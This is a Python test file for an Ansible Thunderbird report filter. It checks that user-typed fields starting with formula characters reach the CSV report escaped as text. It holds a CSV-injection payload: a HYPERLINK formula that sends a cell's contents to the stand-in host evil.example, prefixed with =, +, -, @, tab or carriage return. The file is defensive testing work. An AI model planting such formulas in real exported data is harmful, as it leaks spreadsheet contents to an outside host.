"""Issue 13 finding 8: what users typed (account name, address, profile
folder, server) reaches the CSV report; a cell starting with a formula
character must reach a spreadsheet as text, not as a live formula. Each
(character, column) pair is one case of the tally (group ``report-csv``)."""

import csv
import io

import pytest

import hardening_tally as tally

from ansible_collections.rectorat.thunderbird.plugins.filter.offline_report import offline_report

LEADS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "cr": "\r"}
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Boîte")'


def account(**typed):
    values = {"key": "account1", "name": "Boîte", "type": "imap", "hostname": "imap.ac-test.fr",
              "port": 993, "email": "a@ac-test.fr", "socket_type": "tls", "auth_method": "password_cleartext",
              "password_exposed": False, "offline_download": True, "sync_age_days": 0, "size_limit_kb": 0,
              "folders_total": 2, "folders_offline": 2, "store_bytes": 10, "backup_ready": True, "problems": []}
    values.update(typed)
    return values


def host_result(acc, path="/home/u/.thunderbird/x.default"):
    record = {"path": path, "name": "default", "user": "u", "running": False, "error": None,
              "status": "unchanged", "accounts": [acc], "changes": []}
    return {"changed": False, "ansible_facts": {"thunderbird": {"profiles": [record], "errors": []}}}


# column of the CSV -> how a user's text reaches it
COLUMNS = {
    "email": lambda text: host_result(account(email=text)),
    "account_name": lambda text: host_result(account(name=text)),
    "server": lambda text: host_result(account(hostname=text)),
    "profile": lambda text: host_result(account(), path=text),
}


def csv_rows(result):
    built = offline_report({"ws1": {"thunderbird_offline_result": result}}, ["ws1"])
    return list(csv.DictReader(io.StringIO(built["csv"], newline=""))), built["html"]


def test_formula_leads_reach_the_csv_as_text():
    outcomes = []
    for lead_name, lead in sorted(LEADS.items()):
        for column, make in sorted(COLUMNS.items()):
            out = tally.Outcome("csv-cell/%s/%s" % (lead_name, column), "report-csv")
            typed = lead + PAYLOAD
            rows, html = csv_rows(make(typed))
            cell = rows[0][column]
            if cell != "'" + typed:
                out.wrong.append("CSV cell %s is %r, not %r" % (column, cell, "'" + typed))
            if "<td data-column=\"%s\" data-value=\"%s" % (column, lead) not in html:
                out.wrong.append("the HTML page no longer holds the raw %s value" % column)
            outcomes.append(out)
            tally.record(out)
    problems = [o.report() for o in outcomes if not o.clean()]
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("column,value", [
    ("email", "alice@ac-test.fr"),       # '@' inside, not leading
    ("account_name", "Perso = maison"),
    ("port", 993),
    ("sync_age_days", -1),               # a number is no formula: left as is
])
def test_ordinary_cells_are_unchanged(column, value):
    typed = {"email": {"email": value}, "account_name": {"name": value},
             "port": {"port": value}, "sync_age_days": {"sync_age_days": value}}[column]
    out = tally.Outcome("csv-cell/plain/%s" % column, "report-csv")
    rows, _html = csv_rows(host_result(account(**typed)))
    if rows[0][column] != str(value):
        out.wrong.append("CSV cell %s is %r, not %r" % (column, rows[0][column], str(value)))
    tally.record(out)
    assert out.clean(), out.report()
